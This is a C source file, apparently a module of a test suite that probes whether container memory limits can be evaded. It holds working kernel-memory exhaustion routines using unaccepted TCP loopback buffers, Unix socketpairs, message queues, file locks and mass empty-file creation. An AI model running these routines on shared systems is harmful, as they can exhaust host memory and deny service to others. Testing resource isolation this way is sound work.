// To hold memory of the kernel's, which some of it counts for nobody.
#include <arpa/inet.h>
#include <linux/sockios.h>
#include <sys/ioctl.h>
#include <sys/msg.h>
#include <sys/socket.h>
#include "attack.h"

static char block[MIB];

// Fills a connection whose other end never reads.
static size_t fill(int fd) {
  size_t held = 0;
  for (;;) {
    ssize_t count = send(fd, block, 65536, MSG_DONTWAIT | MSG_NOSIGNAL);
    if (count <= 0) return held;
    held += count;
  }
}

static void enlarge(int fd) {
  int size = 4 * MIB;
  setsockopt(fd, SOL_SOCKET, SO_SNDBUF, &size, sizeof size);
  setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &size, sizeof size);
}

// Sends as long as the other end takes it: what waits to be sent is charged to the sender.
static size_t pour(int fd) {
  size_t held = 0;
  for (int waiting = 0; waiting == 0;) {
    ssize_t count = send(fd, block, 16384, MSG_DONTWAIT | MSG_NOSIGNAL);
    if (count <= 0) return held;
    held += count;
    for (int time = 0; time < 20 && ioctl(fd, SIOCOUTQ, &waiting) == 0 && waiting > 0; time++) usleep(500);
  }
  return held;
}

// A connection that comes in is charged to nobody until it is accepted: mem_cgroup_sk_alloc() of the kernel.
static bool tcp_buffers_of_one(void) {
  struct sockaddr_in address = {.sin_family = AF_INET};
  socklen_t length = sizeof address;
  address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  int listener = socket(AF_INET, SOCK_STREAM, 0);
  if (listener < 0 || bind(listener, (void*)&address, length) != 0 || listen(listener, 50) != 0) return false;
  enlarge(listener);
  getsockname(listener, (void*)&address, &length);
  size_t held = 0;
  for (int count = 0; count < 50 && held < TOO_MUCH / 8; count++) {
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (fd < 0 || connect(fd, (void*)&address, length) != 0) return false;
    held += pour(fd);
  }
  return held >= TOO_MUCH / 8;
}
static void tcp_buffers(void) { together(8, tcp_buffers_of_one); }

static bool unix_buffers_of_one(void) {
  size_t held = 0;
  int ends[2];
  for (int count = 0; count < 24 && held < TOO_MUCH / 4; count++) {
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, ends) != 0) return false;
    enlarge(ends[0]);
    held += fill(ends[0]);
    enlarge(ends[1]);
    held += fill(ends[1]);
  }
  return held >= TOO_MUCH / 4;
}
static void unix_buffers(void) { together(4, unix_buffers_of_one); }

static void messages(void) {
  struct {
    long type;
    char text[8000];
  } message = {.type = 1};
  int queues[8000], count = 0;
  size_t held = 0;
  while (count < 8000 && held < TOO_MUCH && (queues[count] = msgget(IPC_PRIVATE, 0600)) >= 0) {
    while (msgsnd(queues[count], &message, sizeof message.text, IPC_NOWAIT) == 0) held += sizeof message.text;
    count++;
  }
  if (held >= TOO_MUCH) worked();
  while (count-- > 0) msgctl(queues[count], IPC_RMID, NULL);
}

// A lock takes more than 190 bytes of the kernel's. It looks at all that a file has before it adds one.
static bool locks_of_one(void) {
  for (int held = 0, number = 0; held < TOO_MUCH / 16 / 190; number++) {
    char path[64];
    snprintf(path, sizeof path, "/tmp/attack-%d-%d", getpid(), number);
    int fd = open(path, O_CREAT | O_RDWR | O_CLOEXEC, 0600);
    unlink(path);
    if (fd < 0) return false;
    for (int at = 0; at < 420; at++, held++) {
      struct flock lock = {.l_type = F_WRLCK, .l_whence = SEEK_SET, .l_start = 2 * at, .l_len = 1};
      if (fcntl(fd, F_SETLK, &lock) != 0) return false;
    }
  }
  return true;
}
static void locks(void) { together(16, locks_of_one); }

// Files with nothing in them: a file takes a KiB and more of the kernel's.
static void empty_files(void) {
  char path[64];
  const char* place = access("/dev/shm", W_OK) == 0 ? "/dev/shm" : "/tmp";
  bool is_made = true;
  int made = 0;
  for (; is_made && made < TOO_MUCH / 1024; made++) {
    snprintf(path, sizeof path, "%s/attack-%d-%d", place, getpid(), made);
    is_made = mknod(path, S_IFREG | 0600, 0) == 0;
  }
  if (is_made) worked();
  while (made-- > 0) {
    snprintf(path, sizeof path, "%s/attack-%d-%d", place, getpid(), made);
    unlink(path);
  }
}

const struct attack buffer_attacks[] = {{"tcp-buffers", tcp_buffers}, {"unix-buffers", unix_buffers},
                                        {"messages", messages},       {"file-locks", locks},
                                        {"empty-files", empty_files}, {NULL, NULL}};
